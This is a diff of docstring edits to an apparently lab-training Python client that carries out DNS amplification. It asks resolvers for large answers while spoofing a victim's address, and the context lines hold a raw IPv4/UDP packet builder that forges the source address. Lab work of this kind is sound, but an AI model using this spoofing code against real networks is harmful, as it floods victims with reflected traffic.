@@ -1,4 +1,4 @@
-"""python -m training.lab.clients.amplify: ask a resolver for a large answer, in the name of a victim. RFC 1035, 6891."""
+"""python -m training.lab.clients.amplify: ask a resolver for much, in the name of a victim. RFC 1035, 6891."""
 
 import argparse
 import socket
@@ -17,7 +17,7 @@ def question(name: str, identifier: int) -> bytes:
 
 
 def datagram(source: str, target: str, ports: tuple[int, int], payload: bytes) -> bytes:
-    """An IPv4 packet of UDP from any address; the kernel fills in the checksum of IP, UDP's stays away. RFC 768, 791."""
+    """An IPv4 packet of UDP from any address; the kernel fills in the checksum of IP, UDP's is none. RFC 768."""
     udp = struct.pack("!HHHH", *ports, 8 + len(payload), 0) + payload
     ends = socket.inet_aton(source) + socket.inet_aton(target)
     return struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(udp), 0, 0, 64, socket.IPPROTO_UDP, 0) + ends + udp
